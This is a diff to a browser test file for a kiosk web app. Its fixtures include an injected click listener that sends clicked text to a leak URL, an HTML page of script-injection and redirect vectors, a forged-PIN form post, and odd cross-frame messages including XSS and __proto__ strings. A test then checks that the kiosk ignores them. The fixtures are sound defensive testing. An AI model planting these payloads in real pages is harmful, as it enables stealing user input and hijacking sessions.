@@ -29,23 +29,29 @@ document.documentElement.dataset.taken = "yes"; location.href = "{LEAK}ran";
 EVIL = f"""
 document.addEventListener("click", (event) => fetch("{LEAK}" + event.target.textContent), true);
 """
-PAGE = f"""<!doctype html><html lang="en"><head><title>times</title><script src="/static/a.js"></script><link rel="stylesheet" href="/static/a.css">
-<script>{ATTACK}</script></head><body onload="{LEAK}" onpointerdown='location.href="{LEAK}on"'><h1>times</h1>
-<script type="module" src="/static/a.js"></script><svg><script href="/static/a.js"></script></svg><scr<script></script>ipt>{ATTACK}</scr</script>ipt>
+PAGE = f"""<!doctype html><html lang="en"><head><title>times</title>
+<script src="/static/a.js"></script><link rel="stylesheet" href="/static/a.css"><script>{ATTACK}</script></head>
+<body onload='location.href="{LEAK}load"' onpointerdown='location.href="{LEAK}on"'><h1>times</h1>
+<script type="module" src="/static/a.js"></script><svg><script href="/static/a.js"></script></svg>
+<scr<script></script>ipt>{ATTACK}</scr<script></script>ipt>
 <iframe src="/"></iframe><iframe srcdoc="&lt;script&gt;parent.location.href='{LEAK}srcdoc'&lt;/script&gt;"></iframe>
-<object data="/screen/state"></object><embed src="/static/a.js"><img src="/static/none.png" onerror='location.href="{LEAK}error"'>
+<object data="/screen/state"></object><embed src="/static/a.js">
+<img src="/static/none.png" alt="" onerror='location.href="{LEAK}error"'>
 <p><a id="script" href="javascript:location.href='{LEAK}link'">a</a></p><p><a id="up" href="{LEAK}top" target="_top">b</a></p>
-<form id="pin" method="post" action="/screen/pin" enctype="text/plain"><input type="hidden" name='{{"pin":"12345678","a":"' value='"}}'></form>
+<form id="pin" method="post" action="/screen/pin" enctype="text/plain">
+<input type="hidden" name='{{"pin":"12345678","a":"' value='"}}'></form>
 <form method="post" action="/juniper-flats/register"><input name="name" value="<b>Ada</b>"><button>go</button></form></body></html>"""
 ODD = """
 () => {
   const shapes = [
-    "", "ready ", "READY", "field", "field ", "field <img src=x onerror=alert(1)>", "field none\\u0000", "field constructor", "constructor", "__proto__",
-    "field __proto__", null, undefined, 0, 1.5, true, [], ["ready"], [["field name", () => 0]].map(([a]) => [a]), {}, {toString: "field name"},
-    {word: "field name"}, {data: "ready"}, {order: "look", size_px: 900, is_dark: true}, {order: "type", text: "x"}, new String("field name"),
-    new Map([["field name", 1]]), new Error("field name"), new Uint8Array(9), "x".repeat(1e6), {__proto__: {kind: "fire"}, kind: "fire", is_dark: true},
+    "", "ready ", "READY", "field", "field ", "field <img src=x onerror=alert(1)>", "field none\\u0000", "field constructor",
+    "constructor", "__proto__", "field __proto__", "x".repeat(1e6), null, undefined, 0, 1.5, true, [], ["ready"], [["field name"]], {},
+    {toString: "field name"}, {word: "field name"}, {data: "ready"}, {order: "look", size_px: 900, is_dark: true},
+    {order: "type", text: "x"}, {kind: "fire", is_dark: true}, new String("field name"), new Map([["field name", 1]]),
+    new Error("field name"), new Uint8Array(9),
   ];
   for (const shape of shapes) for (const target of ["*", location.origin]) parent.postMessage(shape, target);
+  return 2 * shapes.length;
 }
 """
 TRIED = """
@@ -213,9 +219,9 @@ def test_fail__a_message_of_another_shape_or_from_elsewhere_is_passed_over(kiosk
     watch = Watch(context)
     page.evaluate("window.heard = 0; addEventListener('message', () => { window.heard += 1; })")
     before = around(page)
-    inside.evaluate(ODD)
+    sent = inside.evaluate(ODD)
     page.evaluate("postMessage('field name', '*')")
-    page.wait_for_function("window.heard >= 63")
+    page.wait_for_function("(sent) => window.heard === sent", arg=sent + 1)
     assert (around(page), page.locator("#keyboard").is_visible()) == (before, False)
     assert watch.faults() == []
     inside.evaluate("parent.postMessage('field letters', '*')")
